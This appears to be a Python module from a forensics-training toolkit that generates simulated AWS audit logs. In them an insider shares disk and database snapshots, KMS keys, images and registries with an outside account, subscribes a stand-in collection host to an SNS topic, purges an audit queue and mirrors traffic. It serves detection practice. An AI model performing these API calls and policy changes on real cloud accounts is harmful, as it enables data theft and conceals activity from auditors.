"""Data given away: snapshots, images, databases, keys, topics, registries and mirrored traffic shared with another account.

The shape follows public reports and open tools for testing detection.
"""

from __future__ import annotations

import json
from typing import Any

from ctforensics.practice import identities
from ctforensics.practice.company import ATTACKER, DATA, HOME, PRODUCTION
from ctforensics.practice.identities import Actor
from ctforensics.practice.maker import instant
from ctforensics.practice.stage import Stage, Story
from ctforensics.practice.stories import _everyday
from ctforensics.practice.stories._steps import REFUSED, steps

STRANGER = "777788889999"


def script(stage: Stage) -> None:
    _everyday.workdays(stage, 2)
    _everyday.operations(stage)
    thief = stage.company.user("carol-backup", address=ATTACKER)
    stage.clue = thief.key
    _decoys(stage)
    _disks(stage, thief)
    _databases(stage, thief)
    _keys_and_messages(stage, thief)
    _images_and_traffic(stage, thief)


def _arn(service: str, name: str) -> str:
    return f"arn:aws:{service}:{HOME}:{PRODUCTION}:{name}"


def _shared(kind: str, **who: str) -> dict[str, Any]:
    return {kind: {"add": {"items": [who]}}, "attributeType": kind}


def _decoys(stage: Stage) -> None:
    """Anna shares an image with the company's own data account and pushes a release."""
    anna = stage.company.console("anna", instant(stage.at(1, "08:30:00")))
    steps(
        stage, 1, anna, "benign_share", "image_sharing_changes", "An image for the data account.",
        ("11:00:00", "ec2", "ModifyImageAttribute", {"imageId": "ami-0a1b2c3d4e5f60718", **_shared("launchPermission", userId=DATA)}),
    )  # fmt: skip
    pushed = {"image": {"imageId": {"imageDigest": "sha256:" + "ab" * 32, "imageTag": "v41"}, "repositoryName": "web"}}
    steps(
        stage, 1, anna, "benign_push", "image_registry_activity", "A release is pushed.",
        ("11:30:00", "ecr", "PutImage", {"repositoryName": "web", "imageTag": "v41"}, pushed),
    )  # fmt: skip


def _disks(stage: Stage, thief: Actor) -> None:
    ids = stage.company.ids
    source, snap, volume = ids.resource("vol", "db"), ids.resource("snap", "db"), ids.resource("vol", "copy")
    steps(
        stage, 2, thief, "disk_mounted", "volume_mount_chain", "A disk is copied and attached elsewhere.",
        ("01:00:00", "ec2", "CreateSnapshot", {"volumeId": source}, {"snapshotId": snap, "volumeId": source}),
        ("01:05:00", "ec2", "CreateVolume", {"snapshotId": snap, "zone": "us-east-1a"}, {"volumeId": volume, "snapshotId": snap}),
        ("01:06:00", "ec2", "AttachVolume", {"volumeId": volume, "instanceId": ids.resource("i", "jump"), "device": "/dev/sdf"}),
    )  # fmt: skip
    steps(
        stage, 2, thief, "disk_shared", "snapshot_sharing_changes", "Its snapshot is shared with a stranger, then tried with everyone.",
        ("01:10:00", "ec2", "ModifySnapshotAttribute", {"snapshotId": snap, **_shared("createVolumePermission", userId=STRANGER)}),
        ("01:11:00", "ec2", "ModifySnapshotAttribute", {"snapshotId": snap, **_shared("createVolumePermission", group="all")}, REFUSED),
    )  # fmt: skip
    service = identities.Actor({"accountId": STRANGER, "invokedBy": "ec2.amazonaws.com"}, "ec2.amazonaws.com", "ec2.amazonaws.com")  # fmt: skip
    used = stage.play(stage.at(2, "01:40:00"), service, "ec2", "SharedSnapshotCopyInitiated", account=PRODUCTION, event_type="AwsServiceEvent", details={"snapshotId": snap})  # fmt: skip
    stage.fact("disk_taken", "shared_snapshots_used", "The stranger copies it.", used)


def _databases(stage: Stage, thief: Actor) -> None:
    steps(
        stage, 2, thief, "database_shared", "db_snapshot_sharing", "A database snapshot is shared and exported.",
        ("02:00:00", "rds", "CreateDBSnapshot", {"dBInstanceIdentifier": "orders", "dBSnapshotIdentifier": "orders-x"}),
        ("02:04:00", "rds", "ModifyDBSnapshotAttribute", {"dBSnapshotIdentifier": "orders-x", "attributeName": "restore", "valuesToAdd": [STRANGER]}),
        ("02:05:00", "rds", "StartExportTask", {"sourceArn": _arn("rds", "snapshot:orders-x"), "s3BucketName": "example-exports", "kmsKeyId": "alias/x"}),
    )  # fmt: skip
    group = stage.company.ids.resource("sg", "open")
    taken = steps(
        stage, 2, thief, "database_taken_over", "database_takeover", "A copy is restored, opened, and gets a new password.",
        ("02:10:00", "rds", "RestoreDBInstanceFromDBSnapshot", {"dBInstanceIdentifier": "orders-copy", "dBSnapshotIdentifier": "orders-x", "publiclyAccessible": True}),
        ("02:20:00", "rds", "ModifyDBInstance", {"dBInstanceIdentifier": "orders-copy", "masterUserPassword": "****", "vPCSecurityGroupIds": [group], "applyImmediately": True}),
    )  # fmt: skip
    stage.fact("database_exposed", "db_restores_and_exposure", "The restored copy is public.", *taken)


def _keys_and_messages(stage: Stage, thief: Actor) -> None:
    key = _arn("kms", "key/1a2b3c4d-1111-4222-8333-444455556666")
    policy = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{STRANGER}:root"}, "Action": "kms:*", "Resource": "*"}]}  # fmt: skip
    on_key = {"resources": [{"accountId": PRODUCTION, "type": "AWS::KMS::Key", "ARN": key}]}
    steps(
        stage, 2, thief, "key_given", "kms_key_policy_and_grant_changes", "The stranger may use the key of the disk.",
        ("02:30:00", "kms", "PutKeyPolicy", {"keyId": key, "policyName": "default", "policy": json.dumps(policy)}, None, on_key),
        ("02:31:00", "kms", "CreateGrant", {"keyId": key, "granteePrincipal": f"arn:aws:iam::{STRANGER}:root", "operations": ["Decrypt"]}, {"grantId": "g"}, on_key),
    )  # fmt: skip
    everyone = json.dumps({"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sns:Subscribe", "Resource": "*"}]})  # fmt: skip
    topic = _arn("sns", "orders")
    steps(
        stage, 2, thief, "messages_opened", "topic_and_queue_exposure", "A topic is opened and read, a queue emptied.",
        ("02:40:00", "sns", "SetTopicAttributes", {"topicArn": topic, "attributeName": "Policy", "attributeValue": everyone}),
        ("02:41:00", "sns", "Subscribe", {"topicArn": topic, "protocol": "https", "endpoint": "https://collect.example.net/x"}),
        ("02:42:00", "sqs", "PurgeQueue", {"queueUrl": f"https://sqs.us-east-1.amazonaws.com/{PRODUCTION}/audit"}),
    )  # fmt: skip


def _images_and_traffic(stage: Stage, thief: Actor) -> None:
    image = "ami-" + stage.company.ids.resource("x", "image")[2:]
    steps(
        stage, 2, thief, "image_made", "machine_image_changes", "An image of the web server.",
        ("03:00:00", "ec2", "CreateImage", {"instanceId": stage.company.instance(), "name": "m", "noReboot": True}, {"imageId": image}),
    )  # fmt: skip
    steps(
        stage, 2, thief, "image_public", "image_sharing_changes", "It is made public.",
        ("03:05:00", "ec2", "ModifyImageAttribute", {"imageId": image, **_shared("launchPermission", group="all")}),
    )  # fmt: skip
    pull = json.dumps({"Statement": [{"Effect": "Allow", "Principal": {"AWS": STRANGER}, "Action": "ecr:BatchGetImage"}]})  # fmt: skip
    steps(
        stage, 2, thief, "registry_opened", "image_registry_activity", "The stranger may pull, a tag is overwritten.",
        ("03:10:00", "ecr", "SetRepositoryPolicy", {"repositoryName": "web", "policyText": pull}),
        ("03:12:00", "ecr", "PutImage", {"repositoryName": "web", "imageTag": "v41"}),
    )  # fmt: skip
    session = {"CreateTrafficMirrorSessionRequest": {"NetworkInterfaceId": stage.company.ids.resource("eni", "web"), "TrafficMirrorTargetId": "tmt-0a1b2c3d", "SessionNumber": 1}}  # fmt: skip
    steps(
        stage, 2, thief, "traffic_mirrored", "traffic_mirroring", "Packets of the web server are copied.",
        ("03:20:00", "ec2", "CreateTrafficMirrorTarget", {"CreateTrafficMirrorTargetRequest": {"NetworkInterfaceId": stage.company.ids.resource("eni", "jump")}}),
        ("03:21:00", "ec2", "CreateTrafficMirrorSession", session),
    )  # fmt: skip


STORY = Story(
    name="data_sharing",
    title="Data given away",
    about="One account, two days: disks, databases, keys, topics, images and traffic shared with a strange account.",
    script=script,
    hours=48,
    events=800,
)
